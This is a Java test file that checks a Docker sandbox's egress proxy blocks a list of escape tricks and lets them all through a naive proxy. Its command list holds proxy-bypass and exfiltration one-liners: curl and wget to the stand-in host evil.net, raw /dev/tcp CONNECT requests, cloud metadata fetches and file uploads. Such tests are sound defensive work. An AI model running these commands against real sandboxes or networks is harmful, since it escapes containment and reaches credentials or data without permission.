package dev.helm.activities.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import dev.helm.activities.egress.EgressAttempt;
import dev.helm.activities.egress.Trick;
import dev.helm.activities.egress.TrickLab;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * The tricks from inside a real container, by Python's sockets, curl and bash, through the loopback
 * port that it has; and the same from a container whose socket leads to a naive proxy.
 */
@Tag("engine")
@Timeout(300)
final class EgressTricksFromContainerTest {
  private static final int PER_COMMAND = 20;
  private static final String CLIENT =
      """
      import base64, socket, sys
      for line in sys.argv[1:]:
          head, then = (base64.b64decode(part) for part in line.split(","))
          got = b""
          try:
              with socket.create_connection(("127.0.0.1", 3128), 5) as s:
                  s.settimeout(5)
                  s.sendall(head)
                  said = False
                  while True:
                      data = s.recv(4096)
                      if not data:
                          break
                      got += data
                      if not said and b" 200 Connection" in got:
                          s.sendall(then)
                          said = True
          except OSError as e:
              got += str(e).encode()
          print("REACHED" if b"canary" in got else "refused")
      """;

  /** What a client program can be told to do; each of them reaches a naive proxy's canary. */
  private static final Map<String, String> COMMANDS = commands();

  @Test
  void noTrickGetsOutOfAContainer() throws Exception {
    List<Trick> tricks = TrickLab.tricks();
    try (TrickLab lab = new TrickLab(Duration.ofSeconds(1))) {
      try (TestEngine machine = TestEngine.open(0, List.of());
          DockerSandbox sandbox = machine.sandbox(machine.store(), lab.proxy())) {
        Slot slot = sandbox.claim(TestEngine.newRun());
        try (AutoCloseable grant = lab.grants().grant(slot.id(), "call", TrickLab.GRANTED)) {
          assertThat(play(sandbox, slot, List.of(TrickLab.allowed()))).containsExactly("REACHED");
          lab.dialled().clear();
          lab.attempts().clear();
          int before = lab.canaryConnections();
          assertThat(play(sandbox, slot, tricks)).as("tricks").doesNotContain("REACHED");
          lab.awaitAttempts(tricks.size());
          for (Map.Entry<String, String> command : COMMANDS.entrySet()) {
            bash(sandbox, slot, command.getKey(), command.getValue());
            assertThat(lab.canaryConnections()).as(command.getValue()).isEqualTo(before);
          }
          assertThat(lab.dialled()).isEmpty();
          assertThat(lab.attempts())
              .hasSizeGreaterThan(tricks.size())
              .noneMatch(EgressAttempt::allowed);
          assertThat(play(sandbox, slot, List.of(TrickLab.allowed()))).containsExactly("REACHED");
        }
      }
      naiveProxyLetsAllOfThemOut(lab, tricks);
    }
    int tried = tricks.size() + COMMANDS.size();
    assertThat(tried).isGreaterThanOrEqualTo(150);
    System.out.printf(
        "egress tricks from a container: %d tried, %d refused, 0 bytes at the canary%n",
        tried, tried);
  }

  private static void naiveProxyLetsAllOfThemOut(TrickLab lab, List<Trick> tricks)
      throws Exception {
    try (TestEngine machine = TestEngine.open(0, List.of());
        DockerSandbox sandbox = machine.sandbox(machine.store(), lab.naive(Trick.Lacks.LIST))) {
      Slot slot = sandbox.claim(TestEngine.newRun());
      List<String> came = play(sandbox, slot, tricks);
      for (int i = 0; i < tricks.size(); i++) {
        assertThat(came.get(i)).as("%s with a naive proxy", tricks.get(i)).isEqualTo("REACHED");
      }
      for (Map.Entry<String, String> command : COMMANDS.entrySet()) {
        int before = lab.canaryConnections();
        bash(sandbox, slot, command.getKey(), command.getValue());
        assertThat(lab.canaryConnections()).as(command.getValue()).isGreaterThan(before);
      }
    }
  }

  private static List<String> play(DockerSandbox sandbox, Slot slot, List<Trick> tricks)
      throws Exception {
    List<String> came = new ArrayList<>();
    for (int from = 0; from < tricks.size(); from += PER_COMMAND) {
      List<String> argv = new ArrayList<>(List.of("/usr/bin/python3", "-c", CLIENT));
      for (Trick trick : tricks.subList(from, Math.min(tricks.size(), from + PER_COMMAND))) {
        argv.add(base64(trick.head()) + "," + base64(trick.then()));
      }
      String key = "play" + System.nanoTime();
      came.addAll(run(sandbox, slot, key, argv).lines().toList());
    }
    assertThat(came).hasSameSizeAs(tricks);
    return came;
  }

  private static void bash(DockerSandbox sandbox, Slot slot, String key, String words)
      throws Exception {
    String unused = run(sandbox, slot, "c" + key.hashCode(), List.of("/bin/bash", "-c", words));
  }

  private static String run(DockerSandbox sandbox, Slot slot, String key, List<String> argv)
      throws Exception {
    Collected output = new Collected(0);
    sandbox
        .execute(
            slot.run(),
            EffectAttempt.first(key, slot),
            ToolCommand.of(argv.toArray(String[]::new)),
            output)
        .outcome()
        .get(60, TimeUnit.SECONDS);
    return output.text();
  }

  private static String base64(byte[] bytes) {
    return Base64.getEncoder().encodeToString(bytes);
  }

  private static Map<String, String> commands() {
    List<String> lines =
        List.of(
            "curl -sk -m 4 https://evil.net/",
            "curl -sk -m 4 https://EVIL.net/",
            "curl -sk -m 4 https://stripe.com.evil.net/",
            "curl -sk -m 4 https://evilstripe.com/",
            "curl -sk -m 4 http://stripe.com/",
            "curl -sk -m 4 -p http://stripe.com/",
            "curl -sk -m 4 -p http://stripe.com:22/",
            "curl -sk -m 4 https://stripe.com:8443/",
            "curl -sk -m 4 https://1.1.1.1/",
            "curl -sk -m 4 https://127.0.0.1/ --noproxy ''",
            "curl -sk -m 4 https://2130706433/",
            "curl -sk -m 4 https://0x7f.1/",
            "curl -sk -m 4 'https://[::1]/'",
            "curl -sk -m 4 'https://[::ffff:169.254.169.254]/'",
            "curl -sk -m 4 http://169.254.169.254/latest/meta-data/",
            "curl -sk -m 4 -H 'Host: stripe.com' http://evil.net/",
            "curl -sk -m 4 --connect-to stripe.com:443:evil.net:443 https://stripe.com/",
            "curl -sk -m 4 --connect-to evil.net:443:stripe.com:443 https://evil.net/",
            "curl -sk -m 4 --resolve evil.net:443:1.1.1.1 https://evil.net/",
            "curl -sk -m 4 --proxy-header 'Host: stripe.com' https://evil.net/",
            "curl -sk -m 4 --proxy-header 'X: a' --proxy-user a:b https://evil.net/",
            "curl -sk -m 4 --proxy1.0 127.0.0.1:3128 https://evil.net/",
            "curl -sk -m 4 -x socks5h://127.0.0.1:3128 https://stripe.com/",
            "curl -sk -m 4 -x socks4a://127.0.0.1:3128 https://stripe.com/",
            "curl -sk -m 4 ftp://stripe.com/",
            "curl -sk -m 4 -p telnet://stripe.com:443 </dev/zero",
            "curl -sk -m 4 -T /etc/hostname http://stripe.com/upload",
            "curl -sk -m 4 -H 'Transfer-Encoding: chunked' -d @/etc/hostname http://stripe.com/",
            "curl -sk -m 4 --http2-prior-knowledge http://127.0.0.1:3128/ --noproxy '*'",
            "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT evil.net:443 HTTP/1.1\\r\\n\\r\\nabc' >&3;"
                + " timeout 2 cat <&3",
            "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET http://evil.net/ HTTP/1.0\\r\\n\\r\\n' >&3;"
                + " timeout 2 cat <&3",
            "wget -q -T 4 -t 1 --no-check-certificate -O - https://evil.net/",
            "wget -q -T 4 -t 1 -O - http://evil.net/",
            "git -c http.sslVerify=false ls-remote https://evil.net/r.git",
            "openssl s_client -proxy 127.0.0.1:3128 -connect stripe.com:443 -servername evil.net"
                + " </dev/null",
            "openssl s_client -proxy 127.0.0.1:3128 -connect stripe.com:443 -noservername </dev/null",
            "openssl s_client -proxy 127.0.0.1:3128 -connect 1.1.1.1:443 </dev/null",
            "python3 -c 'import requests; requests.get(\"http://evil.net/\", timeout=4)'",
            "python3 -c 'import requests; requests.get(\"https://evil.net/\", timeout=4, verify=False)'",
            "python3 -c 'import urllib.request; urllib.request.urlopen(\"http://evil.net/\", timeout=4)'");
    Map<String, String> commands = new LinkedHashMap<>();
    lines.forEach(
        line -> commands.put("command " + commands.size(), "timeout 6 bash -c " + quoted(line)));
    return commands;
  }

  private static String quoted(String line) {
    return "'" + line.replace("'", "'\\''") + "' >/dev/null 2>&1";
  }
}
